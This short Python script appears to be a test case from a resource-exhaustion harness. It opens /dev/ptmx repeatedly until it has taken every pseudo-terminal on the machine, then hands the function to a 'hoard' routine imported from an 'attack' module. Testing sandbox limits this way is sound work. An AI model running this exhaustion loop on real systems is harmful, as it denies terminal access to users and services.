# Takes every pseudo-terminal that there is on the machine.
# kind: hoard
# control: inside
import os

from attack import KEPT, hoard


def hold():
    while True:
        try:
            KEPT.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
        except OSError:
            return len(KEPT)


hoard(hold, os.openpty)
